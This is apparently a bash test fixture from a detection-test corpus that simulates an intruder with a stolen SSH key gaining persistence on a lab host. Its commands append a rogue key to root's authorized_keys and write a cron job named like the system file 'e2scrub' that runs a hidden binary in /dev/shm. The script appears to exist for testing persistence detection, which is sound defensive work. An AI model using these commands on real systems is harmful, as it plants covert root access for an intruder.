#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=sshd,tee far=out services=nvr:22 seconds=22 parts=dns before=yes
# Somebody outside with a stolen key comes in by the server's own SSH and leaves a second key and a job of cron; the host's root is a folder of the lab.
# config: host_root: {dir}/host
# shellcheck disable=SC1091,SC2029,SC2154 # far/ssh.sh, the folder is known here, far/ssh.sh has it
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = services ]; then ssh_keys; exec timeout 60 "${sshd[@]}" -o ListenAddress=10.30.0.2 -p 22; fi
if [ "$1" = out ]; then
	sleep 4; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0 x' | ssh "${ssh[@]}" root@10.30.0.2 "tee -a $LAB/host/root/.ssh/authorized_keys" >/dev/null
	sleep 2; echo '*/5 * * * * root /dev/shm/.x' | ssh "${ssh[@]}" root@10.30.0.2 "tee $LAB/host/etc/cron.d/e2scrub" >/dev/null; exit 0
fi
sleep 18; grep -q ed25519 "$LAB/host/root/.ssh/authorized_keys" && grep -q root "$LAB/host/etc/cron.d/e2scrub"
